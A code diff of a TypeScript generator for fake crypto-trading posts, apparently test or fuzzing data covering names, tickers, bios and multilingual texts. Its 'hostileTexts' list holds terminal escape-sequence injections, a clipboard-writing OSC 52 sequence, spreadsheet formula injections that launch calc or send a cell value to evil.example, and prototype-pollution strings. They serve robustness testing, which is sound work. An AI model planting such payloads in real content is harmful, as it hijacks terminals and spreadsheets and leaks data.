@@ -1,4 +1,39 @@
-import { pick, type Random } from '../../random.ts';
+import { pick, type Random } from '../random.ts';
+
+export const firsts =
+  'degen lunar silent rapid hidden golden frozen crypto onchain based salty lucky tiny mega alpha sigma wild calm neon cosmic paper diamond midnight solar turbo humble patient reckless quantum velvet'.split(
+    ' ',
+  );
+
+export const seconds =
+  'duke whale otter monk fox trader sniper farmer wizard pilot ape koala baron ninja goblin hawk lynx mole nomad oracle panda raven shark tiger viking walrus yeti zebra scout smith'.split(
+    ' ',
+  );
+
+/** Invented tickers, and some that a table, a spreadsheet or a terminal may handle incorrectly. */
+export const tickers = [
+  ...'MOONCAT FROGZ WAGMEE TURBOSNAIL KOALA PIXL BREADD ZAPP OTTR LAVA9 NOODL GRUMP HODLR VIBEZ SLOTH MINTY DUCKY ORBIT1 CHOMP YEETH TACOS GLUE RUGG PEBBL COSMO7 BANJO FOMOX SPUD QUAKK WIZZ'.split(
+    ' ',
+  ),
+  ...['東京', '=SUM(A1)', '$CASH', '🐸', '\u001b[7mINV\u001b[0m', '@here', 'عملة'],
+];
+
+/** Names that a table or a terminal may render incorrectly. */
+export const unusualNames = [
+  ...['龍之交易員', 'さくら🌸トレード', '단타왕', 'Пётр Китов', 'محمد الحوت', 'שרה סוחרת', 'नमन ट्रेडर'],
+  ...['👩‍🚀 astro', '🏴‍☠️ Captain', 'ｆｕｌｌｗｉｄｔｈ', 'e\u0301clair (combining)'],
+];
+
+export const bios = [
+  'Position first, thesis second, sleep third.',
+  'on-chain since 2017. not financial advice.',
+  'I buy high so that you can buy higher 🫡',
+  'ex-quant, now quant-ish',
+  'メモ: 損切りは早く、利食いは遅く',
+  'gm ☀️\nlinks below\n— no DMs',
+  'أتداول بهدوء',
+  'charts, coffee, cope ☕️📉',
+];
 
 const buyTexts = [
   'Adding $T here. Volume is waking up and the float is thin.',
@@ -19,14 +54,8 @@ const sellTexts = [
   '$T did its thing. Thanks for playing.',
 ];
 const endings = [
-  ' Stop is under the daily low.',
-  ' Will revisit on Monday.',
-  ' Not advice.',
-  ' Size small, be kind.',
-  ' Watching holders > price.',
-  ' Target is twice from here, invalid below entry.',
-  ' LFG 🚀🚀🚀',
-  ' Full write-up later today.',
+  ...['', '', '', ' Stop is under the daily low.', ' Will revisit on Monday.', ' Not advice.', ' LFG 🚀🚀🚀'],
+  ...[' Watching holders > price.', ' Target is twice from here, invalid below entry.'],
 ];
 
 /** Texts in other scripts and layouts, as real users post them. */
@@ -35,22 +64,18 @@ const internationalTexts = [
   '清仓 $T，等待更好的机会。耐心是唯一的优势。',
   '$T 롱. 손절은 짧게, 익절은 길게 🙏',
   'أشتري $T هنا، السيولة تتحسن والمخاطرة محدودة 🤲',
-  'קונה את $T לטווח ארוך, הסיכון ידוע מראש.',
   'Беру $T на отскок, стоп короткий.',
-  'Long sur $T — « acheter la rumeur », comme d’habitude.',
   '👨‍👩‍👧‍👦 family bag of $T secured 🏳️‍🌈👩🏽‍🚀🇯🇵',
-  'ค่อยๆ เก็บ $T ไปเรื่อยๆ',
   'z̷̛a̸l̵g̶o̷ says $T e\u0301 n\u0303 \u200d\ufe0f',
   '$T\n\n1. catalyst this week\n2. thin book\n3. ???\n\n— end of thesis',
 ];
 
 /** Texts that attack terminals, spreadsheets, parsers and browsers. */
-const hostileTexts = [
+export const hostileTexts = [
   '\u001b[2J\u001b[1;31mYOUR KEY HAS EXPIRED\u001b[0m',
   '\u001b]0;owned\u0007\u001b]8;;https://evil.example/$T\u0007buy $T\u001b]8;;\u0007',
   '\u001b]52;c;ZWNobyBvd25lZA==\u0007 $T',
   'c1 controls: \u009b31m \u0085 \u0090payload\u009c $T',
-  "=cmd|' /C calc'!A0",
   '=HYPERLINK("https://evil.example/?v="&A1,"$T")',
   "+1+cmd|' /C calc'!A0",
   "-2+3+cmd|' /C calc'!A0",
@@ -68,29 +93,14 @@ const hostileTexts = [
   '__proto__ constructor toString',
 ];
 
-const LONGEST = 8 * 1024;
-
-export function thesisText(
-  random: Random,
-  symbol: string | null,
-  isSale: boolean,
-  isHostile: boolean,
-): string | null {
-  const draw = random();
-  const plain = isSale ? sellTexts : buyTexts;
+export function thesisText(random: Random, symbol: string | null, isSale: boolean): string | null {
   const about = (texts: readonly string[]) =>
     pick(random, texts).replaceAll('$T', () => (symbol === null ? 'it' : `$${symbol}`));
-  if (isHostile) return about(hostileTexts);
+  const plain = () => about(isSale ? sellTexts : buyTexts) + about(endings);
+  const draw = random();
   if (draw < 0.008) return null;
   if (draw < 0.016) return '';
-  if (draw < 0.019) return longText(() => about(plain) + about(endings));
+  if (draw < 0.019) return `Everything I know.\n${`${plain()}\n`.repeat(250)}`;
   if (draw < 0.04) return about(hostileTexts);
-  if (draw < 0.16) return about(internationalTexts);
-  return about(plain) + (draw < 0.6 ? '' : about(endings)) + (draw < 0.9 ? '' : about(endings));
-}
-
-function longText(sentence: () => string): string {
-  let text = 'Everything I know.\n';
-  while (text.length < LONGEST) text += `${sentence()}\n`;
-  return text;
+  return draw < 0.16 ? about(internationalTexts) : plain();
 }
